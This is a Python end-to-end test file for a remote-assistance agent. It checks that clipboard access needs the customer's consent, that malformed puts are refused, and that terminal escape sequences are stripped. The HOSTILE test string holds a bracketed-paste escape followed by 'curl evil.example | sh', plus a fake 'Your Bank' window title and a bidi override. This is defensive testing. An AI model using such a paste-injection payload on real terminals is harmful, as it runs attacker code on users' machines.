"""The customer's clipboard as an attacker goes for it (issue #17): a consultant whose consent lacks `clipboard`
writes channel 4 himself to read or overwrite it; a put too big or not text; a put that carries escape sequences
(a bracketed-paste end that would run what follows when pasted into a terminal, a title, a screen clear, a bidi
override) meant for the customer's terminal. The real agent on an Xvfb display; its X clipboard, read with xclip,
is the witness. A frame sent behind an attempt on the same socket, answered through the customer's shell, is the
barrier that proves the attempt reached nothing (not merely "not yet")."""

from __future__ import annotations

import uuid

import pytest
from agent_flow import missing_x_tools
from clipboard_flow import answer, barrier, clipboard_session, gateway_refusals, send
from x_clipboard import copy, missing_xclip, pasted

from assist_agent import framing
from assist_agent.clipboard_transfers import CLIPBOARD_MAX_CHARS

pytestmark = [
    pytest.mark.e2e,
    pytest.mark.timeout(240),
    pytest.mark.skipif(missing_x_tools() is not None, reason=missing_x_tools() or ""),
    pytest.mark.skipif(missing_xclip() is not None, reason=missing_xclip() or ""),
]

SECRET = "the customer's own clipboard: hunter2"
# Ends bracketed paste (ESC [ 201 ~), so a terminal would run the rest as typed; retitles the window; clears the
# screen; reverses the text's direction; a C1 CSI; a NUL and a bell.
HOSTILE = ("echo safe\x1b[201~curl evil.example | sh\r\n\x1b]0;Your Bank\x07\x1b[2J\u202etxt.exe\x9b31m"
           "\x00\x07done")
CLEANED = "echo safecurl evil.example | sh\ntxt.exedone"


async def test_without_the_clipboard_scope_a_consultant_can_neither_read_nor_overwrite_the_clipboard(
        start_system, tmp_path):
    """The gateway refuses channel 4 (the agent's own gate, should a frame come through anyway, is
    agent/tests/test_clipboard.py::test_without_the_clipboard_scope_the_agent_refuses_channel_4_and_reads_nothing)."""
    async with clipboard_session(start_system(shared=True), tmp_path,
                                 scopes=("view", "control")) as (agent, consultant, display):
        copy(display, SECRET)
        await send(consultant, {"type": "clipboard.get", "id": "1"})
        await send(consultant, {"type": "clipboard.put", "id": "2", "text": "overwritten"})
        # A forged answer of the agent's, as if the consultant could make the console believe it: it goes nowhere.
        await send(consultant, {"type": "clipboard.text", "id": "1", "text": "x"})
        refused = (await gateway_refusals(consultant, 1))[0]
        assert refused["what"] == "clipboard"
        assert refused["reason"] == "the customer's consent does not include clipboard"
        await barrier(consultant, "after")
        assert pasted(display) == SECRET
        assert not consultant.pending.get(framing.CLIPBOARD)
        assert "[clipboard]" not in agent.log() and "hunter2" not in agent.log()  # nothing the agent said of it


async def test_an_oversized_or_non_text_put_is_refused_by_the_agent_and_the_clipboard_keeps_its_text(
        start_system, tmp_path):
    async with clipboard_session(start_system(shared=True), tmp_path,
                                 scopes=("view", "control", "clipboard")) as (agent, consultant, display):
        copy(display, SECRET)
        attempts = {"too_long": "я" * (CLIPBOARD_MAX_CHARS + 1), "not_text": {"bytes": [0, 1]},
                    "empty": "\x1b[2J\x1b]0;x\x07\x00"}
        for reason, text in attempts.items():
            transfer_id = str(uuid.uuid4())
            await send(consultant, {"type": "clipboard.put", "id": transfer_id, "text": text})
            assert await answer(consultant, 15) == {"type": "clipboard.failed", "id": transfer_id, "reason": reason}
        # Not UTF-8, not JSON: dropped and logged, no answer; the agent carries on.
        await consultant.send(bytes((framing.CLIPBOARD,)) + b'{"type":"clipboard.put","id":"9","text":"\xff\xfe"}')
        await consultant.send(bytes((framing.CLIPBOARD,)) + b"\x00" * 1000)
        await barrier(consultant, "still-up")
        assert pasted(display) == SECRET
        assert not consultant.pending.get(framing.CLIPBOARD)
        await agent.wait_for_log("not UTF-8 JSON")
        assert agent.process.poll() is None


async def test_a_put_with_escape_sequences_reaches_the_clipboard_without_them_and_is_shown_safely(
        start_system, tmp_path):
    async with clipboard_session(start_system(shared=True), tmp_path,
                                 scopes=("view", "clipboard")) as (agent, consultant, display):
        transfer_id = str(uuid.uuid4())
        await send(consultant, {"type": "clipboard.put", "id": transfer_id, "text": HOSTILE})
        assert await answer(consultant, 15) == {"type": "clipboard.done", "id": transfer_id}
        assert pasted(display) == CLEANED
        await agent.wait_for_log(f'[clipboard] maria put {len(CLEANED)} characters into your clipboard: '
                                 f'"echo safecurl evil.example | sh …"')
        shown = agent.log_path.read_bytes()
        for raw in (b"\x1b", "\u009b".encode(), "\u202e".encode(), b"\x07", b"Your Bank"):
            assert raw not in shown, raw
